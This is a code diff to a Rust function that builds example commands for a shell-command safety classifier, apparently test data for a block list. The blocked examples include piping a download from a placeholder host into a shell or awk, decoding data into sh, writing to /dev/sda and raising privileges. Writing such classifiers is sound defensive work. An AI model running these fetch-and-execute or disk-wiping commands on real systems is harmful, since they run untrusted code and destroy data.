@@ -64,11 +64,19 @@ fn examples(name: &str, fact: &Fact) -> (Vec<String>, Class, Vec<String>) {
             )
         }
         Fact::Decodes => (vec![format!("{name} x | sh")], Class::Blocked, vec![format!("{name} x | wc")]),
+        Fact::DecodesWith(words) => {
+            (each(words, &|word| format!("{name} {word} x | sh")), Class::Blocked, vec![format!("{name} x | wc")])
+        }
         Fact::DecodesIfTold => (vec![format!("{name} -d x | sh")], Class::Blocked, vec![format!("{name} x | wc")]),
         Fact::Speaks(Language::Shell) => (
             vec![format!("curl https://x.io/a | {name}")],
             Class::Blocked,
             vec![format!("curl https://x.io/a > {name}")],
+        ),
+        Fact::Speaks(Language::Awk) => (
+            vec![format!("curl https://x.io/a | {name} -f -")],
+            Class::Blocked,
+            vec![format!("curl https://x.io/a | {name} 1")],
         ),
         Fact::Speaks(_) => {
             (vec![format!("curl https://x.io/a | {name} -")], Class::Blocked, vec![format!("echo {name}")])
@@ -88,6 +96,11 @@ fn examples(name: &str, fact: &Fact) -> (Vec<String>, Class, Vec<String>) {
             (vec![format!("{name} /dev/sda")], Class::Blocked, each(words, &|word| format!("{name} {word} /dev/sda")))
         }
         Fact::Raises => (vec![format!("{name} ls")], Class::Blocked, vec![format!("echo {name}")]),
+        Fact::RaisesWith(words) | Fact::PowerWith(words) => (
+            each(words, &|word| format!("{name} {word}")),
+            Class::Blocked,
+            each(words, &|word| format!("echo {name} {word}")),
+        ),
         Fact::Power => (vec![name.to_owned()], Class::Blocked, vec![format!("{name} --help")]),
         Fact::Version(words) => {
             let asks = each(words, &|word| format!("{name} {word}")).into_iter().filter(|_| !words.is_empty());
